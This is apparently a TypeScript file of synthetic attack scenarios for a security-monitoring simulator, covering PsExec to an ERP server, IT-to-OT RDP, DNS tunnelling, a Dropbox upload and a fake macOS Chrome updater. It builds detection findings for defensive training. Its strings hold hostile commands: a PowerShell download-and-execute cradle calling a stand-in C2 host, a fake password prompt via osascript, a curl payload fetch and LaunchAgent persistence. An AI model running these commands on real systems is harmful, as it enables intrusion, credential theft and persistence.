// Movement across and out of the network: PsExec to a crown jewel, RDP into the plant, a scan,
// DNS tunnelling, an upload to personal storage, and a Mac persistence chain.
import { accountOn, adminAccount, domainAccount, systemAccount } from '../accounts';
import { c2Domain, sha256 } from '../indicators';
import { TECHNIQUES as T } from '../mitre';
import type { FileInfo } from '../ocsf/objects';
import { commandLine, run, runFile, serviceHost, userSession } from '../processes';
import { lowerAlphanumeric, sample } from '../random';
import { endpointOf, ephemeralPort, ipOf, resolverFor, Story } from '../story';
import { hostsOf } from '../world';
import { connection, fileEvent, finding, hostAt, launched, logon, lookup, meta } from './builders';
import { after, encodePowerShell, userOf, windowsProfile } from './helpers';
import type { Scenario } from './types';

export const psexecToErpDatabase: Scenario = {
  key: 'psexec-to-erp-database',
  org: 'manufacturer',
  severity: 'critical',
  status: 'open',
  techniques: [T.smbAdminShares, T.serviceExecution, T.powershell, T.webProtocols],
  tags: ['lateral-movement', 'crown-jewel', 'c2'],
  devices: [{ role: 'workstation', department: 'Engineering' }, { hostname: 'ERP-DB01' }],
  startsHoursAgo: [1, 2.5],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const ws = hostAt(ctx.hosts, 0);
    const erp = hostAt(ctx.hosts, 1);
    const person = userOf(ctx);
    const account = domainAccount(person);
    const system = systemAccount(erp);
    const c2Ip = world.indicators.c2Ips[0] ?? '203.0.113.7';
    const domain = world.indicators.c2Domains[0] ?? c2Domain(rng);
    const explorer = userSession(world, rng, ws, account, after(ctx, -300));
    const psexec = run(
      world,
      rng,
      ws,
      'PsExec64.exe',
      `PsExec64.exe \\\\ERP-DB01 -accepteula -s -d powershell.exe -nop -w hidden -enc <…>`,
      account,
      { parent: explorer, startedAt: after(ctx, 0), integrity: 'High' },
    );
    const services = serviceHost(world, rng, erp, after(ctx, -60_000));
    const psexesvc = run(world, rng, erp, 'PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', system, {
      parent: services,
      startedAt: after(ctx, 0.4),
      integrity: 'System',
    });
    const script = `$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('https://${domain}/s')`;
    const powershell = run(
      world,
      rng,
      erp,
      'powershell.exe',
      `powershell.exe -nop -w hidden -enc ${encodePowerShell(script)}`,
      system,
      { parent: psexesvc, startedAt: after(ctx, 0.5), integrity: 'System' },
    );
    const smb = { src: endpointOf(ws, ephemeralPort(rng)), dst: endpointOf(erp, 445) };
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        ws,
        meta('endpoint', 'high', 'PsExec launched against ERP-DB01 by a standard user'),
        launched(psexec),
      )
      .add(
        after(ctx, 0.2),
        ws,
        meta('network', 'medium', `SMB session from ${ws.device.hostname} to ERP-DB01 (ADMIN$)`),
        connection({
          activity: 1,
          ...smb,
          direction: 'Lateral',
          protocol: 'tcp',
          bytesIn: rng.int(20_000, 60_000),
          bytesOut: rng.int(400_000, 600_000),
          process: psexec,
        }),
      )
      .add(
        after(ctx, 0.3),
        erp,
        meta(
          'identity',
          'medium',
          `Network logon to ERP-DB01 by ${account.name} from ${ws.device.hostname}`,
        ),
        logon({
          activity: 1,
          account,
          success: true,
          logonType: 'Network',
          protocol: 'NTLM',
          src: smb.src,
          dst: smb.dst,
          remote: true,
        }),
      )
      .add(
        after(ctx, 0.4),
        erp,
        meta('endpoint', 'high', 'PsExec service started on ERP-DB01'),
        launched(psexesvc),
      )
      .add(
        after(ctx, 0.5),
        erp,
        meta('endpoint', 'critical', 'Encoded PowerShell run as SYSTEM through the PsExec service'),
        launched(powershell),
      )
      .add(
        after(ctx, 0.7),
        erp,
        meta('network', 'high', `ERP-DB01 connected to known C2 address ${c2Ip}`),
        connection({
          activity: 1,
          src: endpointOf(erp, ephemeralPort(rng)),
          dst: { ip: c2Ip, port: 443, hostname: domain },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(90_000, 300_000),
          bytesOut: rng.int(2_000, 6_000),
          process: powershell,
          url: `https://${domain}/s`,
        }),
      )
      .add(
        after(ctx, 1),
        ws,
        meta('endpoint', 'high', 'Remote service execution tool launched by a standard user'),
        finding({
          rule: { uid: 'SO-EDR-1205', name: 'PsExec from a non-admin workstation', type: 'Rule' },
          description: `${account.name} ran PsExec64.exe against ERP-DB01 from ${ws.device.hostname}; engineers do not administer servers.`,
          types: ['Lateral Movement'],
          techniques: [T.smbAdminShares, T.serviceExecution],
          confidence: 'Medium',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'Network Traffic'],
          evidence: [{ kind: 'process', process: psexec }],
        }),
      )
      .add(
        after(ctx, 1.2),
        erp,
        meta(
          'endpoint',
          'critical',
          'Lateral movement with PsExec to crown-jewel ERP database server',
        ),
        finding({
          rule: {
            uid: 'SO-EDR-1206',
            name: 'PsExec to a crown-jewel server followed by C2',
            type: 'Behavioral',
          },
          description: `PSEXESVC on ERP-DB01 ran encoded PowerShell as SYSTEM, which contacted ${c2Ip} (${domain}), also seen at another customer this week.`,
          types: ['Lateral Movement', 'Command and Control'],
          techniques: [T.smbAdminShares, T.serviceExecution, T.powershell, T.webProtocols],
          confidence: 'High',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'Authentication', 'Network Traffic'],
          evidence: [
            { kind: 'process', process: powershell },
            { kind: 'connection', src: endpointOf(erp), dst: { ip: c2Ip, port: 443 } },
            { kind: 'user', account },
          ],
        }),
      );
    return {
      title: `PsExec lateral movement from ${ws.device.hostname} to crown-jewel ERP-DB01`,
      description:
        `${person.user.name}'s account ran PsExec from ${ws.device.hostname} (${ipOf(ws)}) against ERP-DB01; an ` +
        `encoded PowerShell command ran there as SYSTEM and connected to ${c2Ip}, the same C2 seen at another ` +
        `customer. Isolate ${ws.device.hostname} first; ERP-DB01 needs critical approval to contain.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const rdpIntoPlantHmi: Scenario = {
  key: 'rdp-into-plant-hmi',
  org: 'manufacturer',
  severity: 'high',
  status: 'investigating',
  techniques: [T.rdp, T.validDomainAccounts],
  tags: ['ot', 'lateral-movement'],
  devices: [{ hostname: 'HMI-LINE2-01' }, { role: 'laptop', department: 'Finance' }],
  startsHoursAgo: [30, 60],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const hmi = hostAt(ctx.hosts, 0);
    const laptop = hostAt(ctx.hosts, 1);
    const person = userOf(ctx, 1);
    const account = domainAccount(person);
    const explorer = userSession(world, rng, laptop, account, after(ctx, -90));
    const mstsc = run(
      world,
      rng,
      laptop,
      'mstsc.exe',
      `mstsc.exe /v:${hmi.device.hostname}`,
      account,
      { parent: explorer, startedAt: after(ctx, 0), integrity: 'Medium' },
    );
    const rdp = { src: endpointOf(laptop, ephemeralPort(rng)), dst: endpointOf(hmi, 3389) };
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        laptop,
        meta('endpoint', 'medium', `Remote Desktop client started for ${hmi.device.hostname}`),
        launched(mstsc),
      )
      .add(
        after(ctx, 0.2),
        laptop,
        meta(
          'network',
          'medium',
          `RDP from ${laptop.device.hostname} into the OT network (${hmi.device.hostname})`,
        ),
        connection({
          activity: 6,
          ...rdp,
          direction: 'Lateral',
          protocol: 'tcp',
          bytesIn: rng.int(2_000_000, 9_000_000),
          bytesOut: rng.int(200_000, 900_000),
          process: mstsc,
        }),
      )
      .add(
        after(ctx, 0.5),
        hmi,
        meta(
          'identity',
          'high',
          `RDP logon to line HMI by ${account.name} (${person.user.department}), not an OT engineer`,
        ),
        logon({
          activity: 1,
          account,
          success: true,
          logonType: 'Remote Interactive',
          protocol: 'Kerberos',
          src: rdp.src,
          dst: rdp.dst,
          remote: true,
        }),
      )
      .add(
        after(ctx, 1),
        hmi,
        meta('network', 'high', 'RDP to an OT HMI from an IT workstation'),
        finding({
          rule: { uid: 'SO-NDR-2602', name: 'IT-to-OT remote desktop', type: 'Rule' },
          description: `${laptop.device.hostname} (Finance) opened RDP to ${hmi.device.hostname} on the plant network; only the OT jump host may.`,
          types: ['Lateral Movement', 'Policy Violation'],
          techniques: [T.rdp, T.validDomainAccounts],
          confidence: 'High',
          firstSeen: after(ctx, 0),
          dataSources: ['Network Traffic', 'Authentication'],
          evidence: [
            { kind: 'connection', ...rdp },
            { kind: 'user', account },
          ],
        }),
      );
    return {
      title: `RDP into plant HMI ${hmi.device.hostname} from a Finance laptop`,
      description:
        `${person.user.name} (${person.user.department}) logged on over RDP to ${hmi.device.hostname}, which runs ` +
        `production line 2, from ${laptop.device.hostname}. The IT/OT firewall should have blocked it: check the rule ` +
        `and whether the account is being used by someone else.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const authorisedPortScan: Scenario = {
  key: 'authorised-port-scan',
  org: 'bank',
  severity: 'informational',
  status: 'closed',
  techniques: [T.networkServiceDiscovery],
  tags: ['scan', 'authorised'],
  devices: [{ hostname: 'IT-ADM-LAPTOP-01' }],
  startsHoursAgo: [260, 320],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = adminAccount(person);
    const nmapBinary = {
      name: 'nmap.exe',
      path: 'C:\\Program Files (x86)\\Nmap\\nmap.exe',
      sha256: sha256(rng),
    };
    const explorer = userSession(world, rng, host, account, after(ctx, -30));
    const nmap = runFile(
      rng,
      host,
      nmapBinary,
      `"${nmapBinary.path}" -sS -T4 -p 1-1024 10.10.1.0/24`,
      account,
      { parent: explorer, startedAt: after(ctx, 0), integrity: 'High' },
    );
    const story = new Story(tenancy).add(
      after(ctx, 0),
      host,
      meta('endpoint', 'informational', 'Network scanner launched: nmap.exe'),
      launched(nmap),
    );
    const servers = sample(
      rng,
      hostsOf(world, tenancy).filter((h) => h.spec.zone === 'server'),
      4,
    );
    servers.forEach((target, i) => {
      story.add(
        after(ctx, 0.5 + i * 0.3),
        host,
        meta(
          'network',
          'informational',
          `Connection attempts to many ports on ${target.device.hostname}`,
        ),
        connection({
          activity: 5,
          src: endpointOf(host, ephemeralPort(rng)),
          dst: endpointOf(target, rng.pick([21, 23, 135, 139, 445, 3389])),
          direction: 'Lateral',
          protocol: 'tcp',
          bytesIn: 60,
          bytesOut: 60,
          process: nmap,
        }),
      );
    });
    story.add(
      after(ctx, 2),
      host,
      meta('network', 'informational', `Internal port scan from ${host.device.hostname}`),
      finding({
        rule: { uid: 'SO-NDR-2001', name: 'Horizontal port scan', type: 'Statistical' },
        description: 'SYN scan of ports 1–1024 across 10.10.1.0/24 from the IT admin laptop.',
        types: ['Discovery'],
        techniques: [T.networkServiceDiscovery],
        confidence: 'High',
        firstSeen: after(ctx, 0),
        dataSources: ['Network Traffic', 'Process'],
        evidence: [{ kind: 'process', process: nmap }],
      }),
    );
    return {
      title: `Internal port scan from ${host.device.hostname} (authorised vulnerability scan)`,
      description: `${person.user.name} ran the monthly nmap sweep of the server VLAN under change CHG-2026-1187. Closed as expected activity.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const dnsTunnelling: Scenario = {
  key: 'dns-tunnelling',
  org: 'manufacturer',
  severity: 'medium',
  status: 'investigating',
  techniques: [T.dnsProtocol],
  tags: ['dns', 'exfiltration'],
  devices: [{ role: 'laptop', department: 'Production' }],
  startsHoursAgo: [40, 80],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const zone = `t.${lowerAlphanumeric(rng, 8)}.info`;
    const tool = {
      name: 'svcmon.exe',
      path: `${windowsProfile(person)}\\AppData\\Local\\Temp\\svcmon.exe`,
      sha256: sha256(rng),
    };
    const explorer = userSession(world, rng, host, account, after(ctx, -100));
    const tunnel = runFile(rng, host, tool, `"${tool.path}" --dns ${zone}`, account, {
      parent: explorer,
      startedAt: after(ctx, 0),
      integrity: 'Medium',
    });
    const resolver = resolverFor(world, tenancy);
    const story = new Story(tenancy).add(
      after(ctx, 0),
      host,
      meta('endpoint', 'medium', `Unsigned binary launched from Temp: ${tool.name}`),
      launched(tunnel),
    );
    for (let i = 0; i < 10; i++) {
      const label = lowerAlphanumeric(rng, 52);
      const hostname = `${label}.${lowerAlphanumeric(rng, 12)}.${zone}`;
      story.add(
        after(ctx, 0.5 + i * 0.7),
        host,
        meta('network', 'low', `Long TXT query to ${zone}`),
        lookup({
          src: endpointOf(host, ephemeralPort(rng)),
          resolver,
          hostname,
          type: 'TXT',
          rcode: 'NoError',
          answers: [lowerAlphanumeric(rng, 40)],
          ttl: 0,
          process: tunnel,
        }),
      );
    }
    story.add(
      after(ctx, 8),
      host,
      meta('network', 'medium', `Possible DNS tunnelling: high-entropy TXT queries to ${zone}`),
      finding({
        rule: { uid: 'SO-NDR-2410', name: 'DNS tunnelling', type: 'Learning (ML/DL)' },
        description: `10 TXT queries with 52-character random labels under ${zone} in 7 minutes, TTL 0 answers.`,
        types: ['Command and Control', 'Exfiltration'],
        techniques: [T.dnsProtocol],
        confidence: 'Medium',
        firstSeen: after(ctx, 0.5),
        dataSources: ['DNS', 'Process'],
        evidence: [
          { kind: 'query', hostname: zone },
          { kind: 'process', process: tunnel },
        ],
      }),
    );
    return {
      title: `DNS tunnelling suspected from ${host.device.hostname} to ${zone}`,
      description:
        `${tool.path} sends long random TXT queries under ${zone}, a pattern of DNS tunnelling tools. ` +
        `About 4 KB left this way so far; block the zone on the resolvers.`,
      steps: story.steps,
      people: [person],
    };
  },
};

export const uploadToPersonalCloud: Scenario = {
  key: 'upload-to-personal-cloud',
  org: 'bank',
  severity: 'medium',
  status: 'contained',
  techniques: [T.exfilCloudStorage],
  tags: ['insider', 'exfiltration', 'dlp'],
  devices: [{ role: 'laptop', department: 'Compliance' }],
  startsHoursAgo: [100, 150],
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const archive: FileInfo = {
      name: 'Client_Export_Q3.zip',
      path: `${windowsProfile(person)}\\Documents\\Client_Export_Q3.zip`,
      sha256: sha256(rng),
      size: rng.int(780_000_000, 940_000_000),
    };
    const dropboxIp = `162.125.${rng.int(64, 72)}.${rng.int(10, 250)}`;
    const explorer = userSession(world, rng, host, account, after(ctx, -60));
    const chrome = run(
      world,
      rng,
      host,
      'chrome.exe',
      commandLine(world, host, 'chrome.exe'),
      account,
      { parent: explorer, startedAt: after(ctx, -20), integrity: 'Medium' },
    );
    const resolver = resolverFor(world, tenancy);
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta('endpoint', 'low', `Large archive created: ${archive.name}`),
        fileEvent({ activity: 1, file: archive, actor: explorer }),
      )
      .add(
        after(ctx, 3),
        host,
        meta('network', 'informational', 'DNS query: www.dropbox.com'),
        lookup({
          src: endpointOf(host, ephemeralPort(rng)),
          resolver,
          hostname: 'www.dropbox.com',
          type: 'A',
          rcode: 'NoError',
          answers: [dropboxIp],
          process: chrome,
        }),
      )
      .add(
        after(ctx, 3.2),
        host,
        meta(
          'network',
          'medium',
          `Large upload (${Math.round((archive.size ?? 0) / 1_000_000)} MB) to personal cloud storage dropbox.com`,
        ),
        connection({
          activity: 6,
          src: endpointOf(host, ephemeralPort(rng)),
          dst: { ip: dropboxIp, port: 443, hostname: 'www.dropbox.com' },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(2_000_000, 6_000_000),
          bytesOut: (archive.size ?? 0) + rng.int(1_000_000, 9_000_000),
          process: chrome,
        }),
      )
      .add(
        after(ctx, 25),
        host,
        meta('network', 'medium', 'Unusual volume of data uploaded to personal cloud storage'),
        finding({
          rule: {
            uid: 'SO-NDR-2705',
            name: 'Upload volume anomaly to file-sharing service',
            type: 'Statistical',
          },
          description: `${Math.round((archive.size ?? 0) / 1_000_000)} MB uploaded to Dropbox from a Compliance laptop; 40× the user's baseline.`,
          types: ['Exfiltration', 'Data Loss'],
          techniques: [T.exfilCloudStorage],
          confidence: 'Medium',
          firstSeen: after(ctx, 3.2),
          dataSources: ['Network Traffic', 'File'],
          evidence: [
            { kind: 'file', file: archive },
            { kind: 'connection', src: endpointOf(host), dst: { ip: dropboxIp, port: 443 } },
          ],
        }),
      );
    return {
      title: `Large upload to personal cloud storage from ${host.device.hostname}`,
      description:
        `${person.user.name} zipped a client export and uploaded it to a personal Dropbox. HR and Legal informed; ` +
        `the account is disabled pending interview. Contained.`,
      steps: story.steps,
      people: [person],
      disabled: [person],
    };
  },
};

export const macLaunchAgent: Scenario = {
  key: 'macos-launch-agent',
  org: 'bank',
  severity: 'high',
  status: 'investigating',
  techniques: [T.maliciousFile, T.appleScript, T.launchAgent, T.ingressToolTransfer],
  tags: ['macos', 'persistence', 'infostealer', 'vip'],
  devices: [{ role: 'laptop', department: 'Executive' }],
  startsHoursAgo: [12, 30],
  simulate: { os: 'macos' },
  build(ctx) {
    const { world, rng, tenancy } = ctx;
    const host = hostAt(ctx.hosts, 0);
    const person = userOf(ctx);
    const account = accountOn(host, person);
    const home = `/Users/${person.username}`;
    const domain = c2Domain(rng);
    const c2Ip = rng.pick(world.indicators.c2Ips);
    const app = {
      name: 'ChromeUpdate',
      path: '/Volumes/ChromeUpdate/ChromeUpdate.app/Contents/MacOS/ChromeUpdate',
      sha256: sha256(rng),
    };
    const agentBinary: FileInfo = {
      name: 'sysmond',
      path: `${home}/Library/Application Support/.com.apple.sysmond/sysmond`,
      sha256: sha256(rng),
      size: rng.int(300_000, 900_000),
    };
    const plist: FileInfo = {
      name: 'com.apple.sysmond.plist',
      path: `${home}/Library/LaunchAgents/com.apple.sysmond.plist`,
      size: 611,
    };
    const launchd = userSession(world, rng, host, account, after(ctx, -900));
    const updater = runFile(rng, host, app, app.path, account, {
      parent: launchd,
      startedAt: after(ctx, 0),
    });
    const osascript = run(
      world,
      rng,
      host,
      'osascript',
      `osascript -e 'display dialog "macOS needs to update Chrome. Enter your password:" default answer "" with hidden answer'`,
      account,
      { parent: updater, startedAt: after(ctx, 0.3) },
    );
    const curl = run(
      world,
      rng,
      host,
      'curl',
      `curl -s -o "${agentBinary.path}" https://${domain}/m`,
      account,
      { parent: updater, startedAt: after(ctx, 1) },
    );
    const launchctl = run(
      world,
      rng,
      host,
      'launchctl',
      `launchctl load -w ${plist.path}`,
      account,
      { parent: updater, startedAt: after(ctx, 1.5) },
    );
    const story = new Story(tenancy)
      .add(
        after(ctx, 0),
        host,
        meta(
          'endpoint',
          'medium',
          'Unsigned application run from a mounted disk image: ChromeUpdate',
        ),
        launched(updater),
      )
      .add(
        after(ctx, 0.3),
        host,
        meta('endpoint', 'high', 'AppleScript password prompt spawned by an unsigned app'),
        launched(osascript),
      )
      .add(
        after(ctx, 1),
        host,
        meta('endpoint', 'medium', `Binary downloaded with curl from ${domain}`),
        launched(curl),
      )
      .add(
        after(ctx, 1.2),
        host,
        meta('endpoint', 'high', 'Hidden binary written to Application Support: sysmond'),
        fileEvent({ activity: 1, file: agentBinary, actor: curl }),
      )
      .add(
        after(ctx, 1.4),
        host,
        meta(
          'endpoint',
          'high',
          'LaunchAgent created in the user Library: com.apple.sysmond.plist',
        ),
        fileEvent({ activity: 1, file: plist, actor: updater }),
      )
      .add(
        after(ctx, 1.5),
        host,
        meta('endpoint', 'medium', 'LaunchAgent loaded with launchctl'),
        launched(launchctl),
      )
      .add(
        after(ctx, 2),
        host,
        meta('network', 'high', `sysmond connected to ${c2Ip}:443`),
        connection({
          activity: 1,
          src: endpointOf(host, ephemeralPort(rng)),
          dst: { ip: c2Ip, port: 443, hostname: domain },
          direction: 'Outbound',
          protocol: 'tcp',
          bytesIn: rng.int(3_000, 9_000),
          bytesOut: rng.int(40_000, 120_000),
        }),
      )
      .add(
        after(ctx, 3),
        host,
        meta('endpoint', 'high', 'Persistence via LaunchAgent by an unsigned application'),
        finding({
          rule: {
            uid: 'SO-EDR-2105',
            name: 'Fake updater installs LaunchAgent',
            type: 'Behavioral',
          },
          description: `ChromeUpdate.app asked for the user's password with osascript, downloaded sysmond from ${domain} and registered it as a LaunchAgent.`,
          types: ['Persistence', 'Credential Access'],
          techniques: [T.maliciousFile, T.appleScript, T.launchAgent, T.ingressToolTransfer],
          confidence: 'High',
          firstSeen: after(ctx, 0),
          dataSources: ['Process', 'File', 'Network Traffic'],
          evidence: [
            { kind: 'process', process: osascript },
            { kind: 'file', file: plist },
            { kind: 'file', file: agentBinary },
          ],
        }),
      );
    return {
      title: `Suspicious LaunchAgent persistence on ${host.device.hostname}`,
      description:
        `${person.user.name} (VIP) ran a fake Chrome updater from a disk image. It prompted for the Mac password, ` +
        `downloaded sysmond from ${domain} and installed it as a LaunchAgent that talks to ${c2Ip}. ` +
        `Typical macOS infostealer: assume the keychain and browser sessions are stolen.`,
      steps: story.steps,
      people: [person],
    };
  },
};
